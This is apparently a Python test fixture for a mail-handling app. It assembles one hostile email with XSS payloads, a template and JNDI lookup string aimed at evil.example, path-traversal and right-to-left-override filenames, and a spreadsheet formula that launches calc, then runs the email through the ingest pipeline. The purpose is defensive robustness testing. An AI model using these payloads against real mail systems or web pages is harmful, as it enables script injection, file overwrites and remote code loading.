"""Mails whose every word that a page shows wants to be more than a word (design/reliability.md section 4, nos. 14, 15, 20, 22)."""

from __future__ import annotations

from datetime import UTC, datetime
from email.header import Header

from mailbot import pipeline
from mailbot.app import open_app
from mailbot.config import Config
from mailbot.mailfiles import MailFile
from mailbot.rulebook import Rulebook

SCRIPT = "<script>document.title='owned'</script>"
IMAGE = "<img src=http://evil.example/x.png onerror=\"document.title='owned'\">"
SVG = "\"><svg onload=document.title='owned'>"
TURNED = "照片\u202egpj.exe"
TEMPLATE = "{{7*7}}{% raw %}${jndi:ldap://evil.example}%s"
NAMES = (
    "../../etc/cron.d/x.docx",
    "..\\..\\x.docx",
    "C:\\x.docx",
    "CON.docx",
    f"{SCRIPT}.docx",
    f"{SVG}.docx",
    f"{TURNED}",
    "=cmd|'/c calc'!A1.docx",
    "长" * 200 + ".docx",
    "换\n行.docx",
    "%2e%2e%2f%00.docx",
    "javascript:alert(1).docx",
)


def _word(text: str) -> str:
    return Header(text, "utf-8", maxlinelen=990).encode().replace("\n", "")


def raw() -> bytes:
    """One mail with everything."""
    parts = [
        f"From: {_word(IMAGE)} <evil+{'a' * 40}@evil.example>",
        "To: jlqmxx@126.com",
        f"Subject: {_word(SCRIPT + SVG + TEMPLATE + TURNED + chr(0x2028))}",
        "Message-ID: <hostile.1@evil.example>",
        "Date: Mon, 26 Dec 2022 10:00:00 +0800",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/html; charset=utf-8",
        "",
        f"<p>{TEMPLATE}</p><p>&lt;script&gt;document.title='owned'&lt;/script&gt;</p>{IMAGE}"
        "<iframe src=http://evil.example></iframe><a href=\"javascript:document.title='owned'\">四平职大照片.zip</a>"
        '<a href="https://mail.qq.com/cgi-bin/ftnExs_download?k=1&t=exs_ftn_download&code=%22%3E%3Cscript%3E">照片.zip</a>'
        "(12M, 2023年1月2日 到期)",
    ]
    for name in NAMES:
        parts += [
            "--b",
            f"Content-Type: application/octet-stream; name={_quoted(name)}",
            f"Content-Disposition: attachment; filename={_quoted(name)}",
            "",
            f"<html><script>document.title='owned'</script>{name}</html>",
        ]
    page = "<html><body><script>document.title='owned'</script><img src=x onerror=document.title='owned'>工作总结</body></html>"
    picture = "<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'><script>document.title='owned'</script></svg>"
    for kind, name, text in (("text/html", "总结.html", page), ("image/svg+xml", "照片.svg", picture)):
        parts += ["--b", f"Content-Type: {kind}; name={_quoted(name)}", "Content-Disposition: inline", "", text]
    return ("\r\n".join([*parts, "--b--", ""])).encode("utf-8", "surrogatepass")


def _quoted(name: str) -> str:
    return '"' + _word(name) + '"'


def add_to(config: Config, book: Rulebook) -> None:
    """Receive and settle it."""
    path = config.storage.parent / "hostile.eml"
    path.write_bytes(raw())
    arrived = datetime(2022, 12, 26, 2, 0, tzinfo=UTC)
    app = open_app(config, rulebook=book, now=lambda: arrived)
    try:
        pipeline.ingest(app, MailFile(path, arrived), arrived, answer=True)
        pipeline.settle(app, lambda: False)
    finally:
        app.close()
